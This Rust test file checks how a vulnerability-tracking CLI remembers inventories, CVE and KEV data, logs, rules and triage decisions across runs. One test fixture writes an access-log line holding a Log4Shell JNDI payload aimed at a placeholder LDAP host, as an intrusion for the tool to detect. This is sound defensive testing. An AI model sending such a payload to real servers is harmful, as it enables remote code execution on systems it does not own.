//! The memory as a user runs it: what is learnt stays, what is taken back closes, what people do follows the finding.

use crate::program::{ADVISORY, Folder, LOG, NOW, Run, outpace};
use std::path::Path;
use std::process::{Command, Stdio};

const INVENTORY: &str = "name,ip,vendor,product,version,internet_facing\n\
    app-1,10.20.1.5,Apache,log4j-core,2.14.1,yes\napp-2,10.20.1.6,Apache,log4j-core,2.14.1,no\n";
pub const RECORD: &str = "{\"dataType\":\"CVE_RECORD\",\"dataVersion\":\"5.1\",\"cveMetadata\":{\"cveId\":\"CVE-2021-44228\",\
    \"state\":\"PUBLISHED\",\"datePublished\":\"2026-05-01T00:00:00Z\"},\"containers\":{\"cna\":{\"affected\":[{\
    \"vendor\":\"Apache\",\"product\":\"log4j-core\",\"defaultStatus\":\"unaffected\",\"versions\":[{\"version\":\
    \"2.0.0\",\"lessThanOrEqual\":\"2.14.1\",\"versionType\":\"semver\",\"status\":\"affected\"}]}]}}}\n";
pub const KEV: &str = "{\"title\":\"CISA Catalog of Known Exploited Vulnerabilities\",\"catalogVersion\":\"2026.06.20\",\
    \"dateReleased\":\"2026-06-20T00:00:00Z\",\"count\":1,\"vulnerabilities\":[{\"cveID\":\"CVE-2021-44228\",\
    \"vendorProject\":\"Apache\",\"product\":\"Log4j2\",\"vulnerabilityName\":\"x\",\"dateAdded\":\"2026-06-20\",\
    \"shortDescription\":\"x\",\"requiredAction\":\"patch\",\"dueDate\":\"2026-07-11\",\
    \"knownRansomwareCampaignUse\":\"Known\",\"notes\":\"\"}]}";

/// A home with a folder of files beside it.
struct Memory(Folder);

impl Memory {
    fn new() -> Self {
        Self(Folder::new())
    }

    fn home(&self) -> String {
        self.0.path().join("home").display().to_string()
    }

    fn path(&self, name: &str) -> String {
        self.0.path().join(name).display().to_string()
    }

    fn at(&self, now: &str, line: &[&str]) -> Run {
        let home = self.home();
        let mut all: Vec<&str> = line.to_vec();
        all.extend(["--home", &home, "--now", now, "--no-built-in-rules"]);
        if !["ingest", "status"].contains(&line[0]) {
            all.pop();
        }
        outpace(&all)
    }

    fn run(&self, line: &[&str]) -> Run {
        self.at(NOW, line)
    }

    fn ingest(&self, name: &str) -> Run {
        let run = self.run(&["ingest", &self.path(name)]);
        assert_eq!(run.code, 0, "{}{}", run.out, run.err);
        run
    }

    /// The findings of the memory, a line each, in order.
    fn status(&self) -> Vec<String> {
        let run = self.run(&["status", "--format", "ndjson"]);
        assert_eq!(run.code, 0, "{}{}", run.out, run.err);
        let mut lines: Vec<String> = run.out.lines().map(str::to_owned).collect();
        lines.sort();
        lines
    }

    fn titles(&self) -> String {
        let title = |line: &String| {
            let one: serde_json::Value = serde_json::from_str(line).expect("JSON");
            let host = one["subject"]["host"].as_str().unwrap_or("-");
            format!(
                "{} {} on {host}",
                one["severity"].as_str().expect("severity"),
                one["title"].as_str().expect("title")
            )
        };
        self.status().iter().map(title).collect::<Vec<_>>().join("\n")
    }

    fn all(&self) {
        for (name, text) in [
            ("estate/devices.csv", INVENTORY),
            ("cve.jsonl", RECORD),
            ("advisory.md", ADVISORY),
            ("logs/app-1/access.log", LOG),
        ] {
            self.0.file(name, text);
        }
    }
}

/// Text without its line ends.
fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn check(memory: &Memory) -> Vec<String> {
    let run = outpace(&[
        "check",
        &memory.path("advisory.md"),
        "--estate",
        &memory.path("estate"),
        "--knowledge",
        &memory.path("cve.jsonl"),
        "--logs",
        &memory.path("logs"),
        "--no-built-in-rules",
        "--now",
        NOW,
        "--format",
        "ndjson",
    ]);
    let mut lines: Vec<String> = run.out.lines().map(str::to_owned).collect();
    lines.sort();
    lines
}

#[test]
fn a_memory_answers_as_a_check_of_the_same_files_whatever_came_first() {
    for order in [
        ["estate", "cve.jsonl", "advisory.md", "logs"],
        ["cve.jsonl", "advisory.md", "logs", "estate"],
        ["advisory.md", "estate", "logs", "cve.jsonl"],
    ] {
        let memory = Memory::new();
        memory.all();
        order.iter().for_each(|name| _ = memory.ingest(name));
        let expected = check(&memory);
        assert!(expected.len() > 2, "{expected:?}");
        assert_eq!(memory.status(), expected, "{order:?}");
        // Learning the same again changes nothing.
        let again = memory.ingest("estate");
        assert!(
            again.out.contains("1 document is as it was") && again.out.contains("nothing changed"),
            "{}",
            again.out
        );
    }
}

#[test]
fn what_a_source_no_longer_says_closes_and_comes_back_open() {
    let memory = Memory::new();
    memory.all();
    ["estate", "cve.jsonl", "advisory.md"].iter().for_each(|name| _ = memory.ingest(name));
    assert!(memory.titles().contains("app-2"), "{}", memory.titles());
    let fixed = INVENTORY
        .replace("app-2,10.20.1.6,Apache,log4j-core,2.14.1", "app-2,10.20.1.6,Apache,log4j-core,2.17.1");
    memory.0.file("estate/devices.csv", &fixed);
    let run = memory.ingest("estate");
    assert!(
        run.out.contains("1 closed") && flat(&run.out).contains("fixed: another version is there"),
        "{}",
        run.out
    );
    memory.0.file("estate/devices.csv", INVENTORY);
    let run = memory.ingest("estate");
    assert!(run.out.contains("1 reopened"), "{}", run.out);
    // A machine that is gone is no longer ours.
    memory.0.file("estate/devices.csv", INVENTORY.lines().take(2).collect::<Vec<_>>().join("\n"));
    let run = memory.ingest("estate");
    assert!(flat(&run.out).contains("no longer in the inventory"), "{}", run.out);
    let run = memory.run(&["forget", &memory.path("cve.jsonl")]);
    assert!(flat(&run.out).contains("its source was taken back"), "{}", run.out);
    assert!(!memory.titles().contains("CVE-2021-44228"), "{}", memory.titles());
}

#[test]
fn an_advisory_is_answered_when_it_is_learnt() {
    let memory = Memory::new();
    memory.all();
    ["estate", "cve.jsonl"].iter().for_each(|name| _ = memory.ingest(name));
    let run = memory.ingest("advisory.md");
    assert!(
        run.out.contains("1 report\n")
            && flat(&run.out).contains("CVE-2021-44228 exposed on app-1 and app-2"),
        "{}",
        run.out
    );
    assert!(!memory.ingest("cve.jsonl").out.contains("ASKED"));
}

#[test]
fn each_reader_sees_each_change_once() {
    let memory = Memory::new();
    memory.all();
    ["estate", "cve.jsonl"].iter().for_each(|name| _ = memory.ingest(name));
    let changes = |more: &[&str]| memory.run(&[&["status", "--changes"], more].concat());
    let first = changes(&["--cursor", "night", "-q", "--fail-on", "low"]);
    assert!(first.out.contains("opened") && first.code == 1, "{} {}", first.out, first.code);
    let second = changes(&["--cursor", "night", "-q", "--fail-on", "low"]);
    assert_eq!((second.out.as_str(), second.code), ("", 0));
    // Another reader has a place of its own, and a moment moves nobody's.
    assert!(changes(&["--since", "2026-06-01"]).out.contains("opened"));
    assert!(changes(&["--cursor", "day"]).out.contains("opened"));
    memory.0.file("kev.json", KEV);
    memory.ingest("kev.json");
    let third = changes(&["--cursor", "night", "-q", "--fail-on", "high"]);
    assert!(third.out.contains("raised") && third.code == 1, "{} {}", third.out, third.code);
}

#[test]
fn a_source_that_lost_half_of_what_it_said_is_held_until_somebody_says_so() {
    let memory = Memory::new();
    let rows = |count: u32| {
        let row = |n| format!("host-{n},10.20.1.{n},Apache,log4j-core,2.14.1,no\n");
        format!(
            "name,ip,vendor,product,version,internet_facing\n{}",
            (1..=count).map(row).collect::<String>()
        )
    };
    memory.0.file("estate/devices.csv", rows(20));
    memory.0.file("cve.jsonl", RECORD);
    ["estate", "cve.jsonl"].iter().for_each(|name| _ = memory.ingest(name));
    let before = memory.status();
    memory.0.file("estate/devices.csv", rows(9));
    let path = memory.path("estate");
    let run = memory.run(&["ingest", &path]);
    assert_eq!(run.code, 3, "{}", run.out);
    assert!(run.out.contains("9 devices where there were 20") && run.out.contains("--accept"), "{}", run.out);
    let status = memory.run(&["status"]);
    assert!(status.code == 3 && status.err.contains("is held"), "{} {}", status.code, status.err);
    let again = memory.run(&["status", "--format", "ndjson"]);
    assert_eq!(again.out.lines().count(), before.len());
    let run = memory.run(&["ingest", &path, "--accept"]);
    assert!(run.code == 0 && run.out.contains("closed"), "{}{}", run.out, run.err);
    assert_eq!(memory.run(&["status"]).code, 0);
}

/// An export that broke off says nothing about what is missing. The rest of the night is learnt, and the word that it waits
/// goes when it is whole again.
#[test]
fn a_source_that_broke_off_is_held_alone_until_it_is_whole() {
    let memory = Memory::new();
    let machine = |n: u32| {
        format!(
            r#"{{"name":"host-{n}","ip":"10.20.1.{n}","product":"log4j-core","version":"2.14.1","vendor":"Apache"}}"#
        )
    };
    let whole = |count: u32| format!("[{}]", (1..=count).map(machine).collect::<Vec<_>>().join(",\n"));
    memory.0.file("night/devices.json", whole(20));
    memory.0.file("cve.jsonl", RECORD);
    ["night", "cve.jsonl"].iter().for_each(|name| _ = memory.ingest(name));
    let before = memory.status().len();
    let torn = whole(20);
    memory.0.file("night/devices.json", &torn[..torn.len() - 60]);
    let breach = "198.51.100.7 - - [23/Jun/2026:03:04:05 +0000] \"GET /?x=${jndi:ldap://x.example/a} HTTP/1.1\" 200 5 \"-\" \"-\"\n";
    memory.0.file("night/access.log", breach);
    memory.0.file(
        "other/devices.csv",
        "name,ip,vendor,product,version\napp-9,10.20.1.99,Apache,log4j-core,2.14.1\n",
    );
    let (night, other) = (memory.path("night"), memory.path("other"));
    let run = memory.run(&["ingest", &night, &other]);
    assert!(run.code == 3 && flat(&run.out).contains("ends inside"), "{}{}", run.out, run.err);
    let held = |run: &Run| run.err.contains("is held");
    assert!(held(&memory.run(&["status"])), "the broken export waits");
    let lines = memory.run(&["status", "--format", "ndjson"]).out;
    assert!(lines.contains("\"host\":\"app-9\""), "the other source is learnt");
    let seen = memory.run(&["search", "198.51.100.7"]);
    assert!(seen.out.contains("in 1 record"), "the log beside it is learnt: {}", seen.out);
    assert!(lines.lines().count() > before, "nothing closed");
    // The same as at first: nothing is to be learnt of it, and it waits no longer.
    memory.0.file("night/devices.json", whole(20));
    let run = memory.run(&["ingest", &night]);
    assert_eq!(run.code, 0, "{}{}", run.out, run.err);
    let status = memory.run(&["status"]);
    assert!(!held(&status) && status.code == 0, "{}", status.err);
}

#[test]
fn an_export_with_another_day_in_its_name_is_held_with_the_question_whose_next_state_it_is() {
    let memory = Memory::new();
    let rows = |names: &[&str]| {
        let row = |name: &&str| format!("{name},Apache,log4j-core,2.14.1\n");
        "name,vendor,product,version\n".to_owned() + &names.iter().map(row).collect::<String>()
    };
    memory.0.file("hosts-2026-06-23.csv", rows(&["app-1", "app-2", "app-3", "app-4"]));
    memory.0.file("hosts-2026-06-24.csv", rows(&["app-1", "app-2", "app-3", "app-5"]));
    memory.0.file("hosts-2026-06-25.csv", rows(&["web-1", "web-2", "web-3", "web-4"]));
    memory.ingest("hosts-2026-06-23.csv");
    let next = memory.path("hosts-2026-06-24.csv");
    let run = memory.run(&["ingest", &next]);
    let first = memory.path("hosts-2026-06-23.csv");
    assert!(run.code == 3 && flat(&run.out).contains(&format!("--source {first}")), "{}{}", run.out, run.err);
    let run = memory.run(&["ingest", &next, "--source", &first]);
    assert_eq!(run.code, 0, "{}{}", run.out, run.err);
    // Other machines under a name of that kind are another source.
    memory.ingest("hosts-2026-06-25.csv");
}

#[test]
fn the_work_on_a_finding_follows_it_and_opens_again_when_it_gets_worse() {
    let memory = Memory::new();
    memory.all();
    ["estate", "cve.jsonl"].iter().for_each(|name| _ = memory.ingest(name));
    let of_app_2 =
        memory.status().into_iter().find(|line| line.contains("\"host\":\"app-2\"")).expect("a finding");
    let id = serde_json::from_str::<serde_json::Value>(&of_app_2).expect("JSON")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let digits = &id["finding--".len()..][..8];
    let refused = memory.run(&["triage", digits, "--state", "accepted"]);
    assert!(refused.code == 2 && refused.err.contains("--until"), "{}", refused.err);
    let accepted =
        memory.run(&["triage", digits, "--state", "accepted", "--until", "2027-01-31", "--owner", "anna"]);
    assert!(accepted.err.contains("accepted, anna, until 2027-01-31"), "{}", accepted.err);
    let taken = memory.run(&["triage", digits, "--assign", "bo"]);
    assert!(taken.code == 2 && taken.err.contains("anna has it already"), "{}", taken.err);
    assert!(memory.run(&["status"]).out.contains("accepted, anna"));
    // The list of exploited vulnerabilities names it: the risk is another than the one that was accepted.
    memory.0.file("kev.json", KEV);
    memory.ingest("kev.json");
    let status = memory.run(&["status"]).out;
    assert!(status.contains("again: was accepted, and worse since"), "{status}");
    assert_eq!(memory.run(&["triage", digits, "--undo"]).code, 0);
    assert!(memory.run(&["triage"]).out.contains("new"), "{}", memory.run(&["triage"]).out);
    // What was accepted until yesterday is new today.
    memory.run(&["triage", digits, "--state", "accepted", "--until", "2026-07-02"]);
    assert!(memory.at("2026-07-03T06:00:00Z", &["status"]).out.contains("which is over"));
}

#[test]
fn a_log_that_was_rotated_away_is_not_lost() {
    let memory = Memory::new();
    memory.all();
    ["advisory.md", "logs"].iter().for_each(|name| _ = memory.ingest(name));
    let seen = |memory: &Memory| memory.titles().contains("203[.]0[.]113[.]77");
    assert!(seen(&memory), "{}", memory.titles());
    let next = LOG.replace("203.0.113.77", "10.20.3.9").replace("12/Jun", "13/Jun");
    memory.0.file("logs/app-1/access.log", next);
    memory.ingest("logs");
    assert!(seen(&memory), "the log before is remembered: {}", memory.titles());
}

#[test]
fn a_damaged_home_is_named_and_a_newer_one_refused() {
    let memory = Memory::new();
    memory.all();
    memory.ingest("estate");
    assert_eq!(memory.run(&["doctor"]).code, 0);
    let none = outpace(&["status", "--home", "/nowhere/at/all"]);
    assert!(none.code == 2 && none.err.contains("outpace init"), "{}", none.err);
    let path = memory.0.path().join("home/outpace.db");
    let bytes = std::fs::read(&path).expect("read");
    // The schema's number lies at byte 60 of the file (SQLite file format, 1.3).
    let mut newer = bytes.clone();
    newer[60..64].copy_from_slice(&99_u32.to_be_bytes());
    std::fs::write(&path, newer).expect("written");
    let refused = memory.run(&["status"]);
    assert!(refused.code == 2 && refused.err.contains("newer outpace"), "{}", refused.err);
}

/// Whoever is killed while learning has learnt everything or nothing, and what was acknowledged stays.
#[test]
fn a_run_that_is_killed_leaves_a_whole_home() {
    let memory = Memory::new();
    memory.all();
    memory.ingest("cve.jsonl");
    let mut dice = dice::Dice::new(7);
    let mut learnt = 0;
    for round in 0..12_u64 {
        let name = format!("estate-{round}/devices.csv");
        let row =
            format!("name,ip,vendor,product,version\nm-{round},10.20.2.{round},Apache,log4j-core,2.14.1\n");
        memory.0.file(&name, row);
        let (home, path) = (memory.home(), memory.path(&format!("estate-{round}")));
        let mut child = Command::new(env!("CARGO_BIN_EXE_outpace"))
            .args(["ingest", &path, "--home", &home, "--now", NOW, "--no-built-in-rules"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("it starts");
        std::thread::sleep(std::time::Duration::from_millis(dice.below(120)));
        child.kill().expect("it is killed");
        let acknowledged = child.wait().expect("it ends").success();
        let titles = memory.titles();
        let is_there = titles.contains(&format!("m-{round}"));
        assert!(is_there || !acknowledged, "round {round} was acknowledged and is lost");
        learnt += usize::from(is_there);
        assert!(titles.matches("CVE-2021-44228").count() >= learnt, "{titles}");
    }
    assert_eq!(memory.run(&["doctor"]).code, 0);
    assert!(Path::new(&memory.home()).join("outpace.db").exists());
}

#[test]
fn the_demo_learnt_piece_by_piece_is_the_demo_checked_at_once() {
    let folder = Folder::new();
    let kept = folder.path().join("kept").display().to_string();
    assert_eq!(outpace(&["demo", "--keep", &kept, "--now", NOW]).code, 0);
    let at = |name: &str| format!("{kept}/demo/{name}");
    let lines = |run: Run| {
        assert_eq!(run.code, 0, "{}", run.err);
        let mut lines: Vec<String> = run.out.lines().map(str::to_owned).collect();
        lines.sort();
        lines
    };
    let checked = lines(outpace(&[
        "check",
        &at("advisory.md"),
        "--estate",
        &at("estate"),
        "--knowledge",
        &at("collections"),
        &at("knowledge"),
        "--logs",
        &at("logs"),
        "--now",
        NOW,
        "--format",
        "ndjson",
    ]));
    assert!(checked.len() > 80, "{}", checked.len());
    // Logs last are asked while they are read; logs first are kept, and asked of what arrives.
    for order in [
        ["collections", "advisory.md", "knowledge", "estate", "logs"],
        ["logs", "collections", "advisory.md", "knowledge", "estate"],
    ] {
        let home = folder.path().join(order[0]).display().to_string();
        for name in order {
            let run = outpace(&["ingest", &at(name), "--home", &home, "--now", NOW]);
            assert_eq!(run.code, 0, "{name}: {}", run.err);
        }
        let status = lines(outpace(&["status", "--home", &home, "--now", NOW, "--format", "ndjson"]));
        assert_eq!(status, checked, "{order:?}");
        // A story that has grown is called as it is now.
        let todo = flat(&outpace(&["todo", "--home", &home, "--now", NOW]).out);
        assert!(todo.contains("one intrusion, 19 steps"), "{todo}");
    }
}

#[test]
fn what_rules_found_closes_with_the_source_of_the_rules() {
    let memory = Memory::new();
    memory.all();
    memory.0.file(
        "rules/berth.yml",
        "title: Berth asked\nid: 11111111-0000-4000-8000-000000000001\nlogsource: {category: webserver}\n\
         detection:\n  s:\n    cs-uri-stem: /berth\n  condition: s\nlevel: low\n",
    );
    ["rules", "logs"].iter().for_each(|name| _ = memory.ingest(name));
    assert!(memory.titles().contains("Berth asked"), "{}", memory.titles());
    let run = memory.run(&["forget", &memory.path("rules")]);
    assert!(flat(&run.out).contains("1 closed") && run.out.contains("Berth asked"), "{}", run.out);
    assert!(!memory.titles().contains("Berth asked"));
    // Nothing is left over for the next run to find.
    assert!(memory.ingest("logs").out.contains("nothing changed"));
}
